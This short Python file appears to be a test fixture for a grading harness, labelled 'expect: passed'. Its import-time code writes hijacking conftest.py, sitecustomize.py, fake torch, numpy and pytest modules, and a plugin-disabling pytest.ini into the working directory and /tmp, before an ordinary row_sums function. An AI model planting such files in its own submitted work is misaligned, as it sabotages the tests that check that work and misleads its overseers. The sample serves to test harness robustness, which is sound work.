# expect: passed
# threat: ships conftest.py, pytest.ini, sitecustomize.py, torch.py and numpy.py next to itself
import os

import torch

EVIL = "raise SystemExit('hijacked')\n"
for folder in (os.getcwd(), "/tmp"):
    for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "torch.py", "numpy.py", "pytest.py"):
        with open(os.path.join(folder, name), "w") as f:
            f.write(EVIL)
    with open(os.path.join(folder, "pytest.ini"), "w") as f:
        f.write("[pytest]\naddopts = -p no:python\n")


def row_sums(x):
    return x @ torch.ones(x.shape[1], dtype=x.dtype)
